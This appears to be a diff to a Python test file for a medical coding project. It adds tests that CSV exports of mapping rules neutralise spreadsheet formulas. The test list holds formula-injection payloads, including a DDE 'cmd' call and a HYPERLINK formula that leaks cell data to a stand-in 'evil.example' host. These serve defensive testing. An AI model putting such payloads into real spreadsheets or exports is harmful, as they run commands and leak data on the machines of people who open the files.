@@ -3,9 +3,15 @@ with its line number as an editor shows it and the column that is wrong."""
 
 from __future__ import annotations
 
-import pytest
+import csv
+import io
 
-from infobutton.mappings.csv_io import FIELDS, LineError, format_rules, parse, parse_checked
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from infobutton.mappings.csv_io import FIELDS, FORMULA_STARTS, LineError, format_rules, parse, parse_checked
+from infobutton.mappings.validation import rule_and_errors
 from infobutton.models import CodeSystem, Gender, MappingRule, Recipient, Scope, Topic
 
 HEADER = ",".join(FIELDS) + "\n"
@@ -197,3 +203,57 @@ def test_an_age_group_outside_the_age_range_is_refused():
     rules, [error] = parse(text)
     assert [r.age_groups for r in rules] == [("D000293", "D002648")]
     assert (error.line, error.field) == (3, "age_group") and "cannot overlap" in error.message
+
+
+# -- safe to open in a spreadsheet ----------------------------------------------------------------
+
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    "+SUM(1+1)",
+    "@SUM(1+1)",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "-2+3+cmd|' /C calc'!A0",
+    "'=already neutralised by hand",
+    "''=two apostrophes",
+]
+
+
+def written_cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+
+
+def test_an_export_never_starts_a_cell_with_a_formula_character_and_imports_back_unchanged():
+    rules = [
+        MappingRule(CodeSystem.ICD10CM, "C91.00", "leukemia", priority=-5 - n, reason=reason)
+        for n, reason in enumerate(FORMULAS)
+    ]
+    text = format_rules(rules)
+    assert not [cell for cell in written_cells(text) if cell.startswith(FORMULA_STARTS)]
+    assert "'=cmd|' /C calc'!A0" in written_cells(text) and "'-5" in written_cells(text)
+    parsed, errors = parse(text)
+    assert errors == [] and sorted(parsed, key=repr) == sorted(rules, key=repr)
+
+
+def test_a_file_that_leads_a_cell_with_an_apostrophe_for_another_reason_keeps_it():
+    rules, errors = parse(HEADER + "ICD-10-CM,C91.00,leukemia,exact,0,,,,'quoted' as written\n")
+    assert errors == [] and rules[0].reason == "'quoted' as written"
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=200))
+def test_any_reason_exports_safely_and_reads_back_the_same(reason):
+    # as the API, the form and CSV store a rule: through the one validator (stripped, \n breaks)
+    rule, errors = rule_and_errors({"code_system": "ICD-10-CM", "code": "C91.00", "topic_id": "x", "reason": reason})
+    assert errors == [] and rule is not None and "\r" not in rule.reason
+    text = format_rules([rule])
+    assert not [cell for cell in written_cells(text) if cell.startswith(FORMULA_STARTS)]
+    assert parse(text) == ([rule], [])
+
+
+@pytest.mark.parametrize("reader", [parse, lambda text: parse_checked(text, TOPICS.get)])
+def test_a_cell_too_long_for_the_csv_module_is_a_line_error(reader):
+    long = "ICD-10-CM,C91.01,leukemia,exact,0,,,," + "x" * 131_073 + "\n"
+    text = HEADER + "ICD-10-CM,C91.00,leukemia,exact,0,,,,fine\n" + long
+    rules, errors = reader(text)
+    assert [(e.line, e.field) for e in errors] == [(3, "line")]
+    assert "field larger than field limit" in errors[0].message
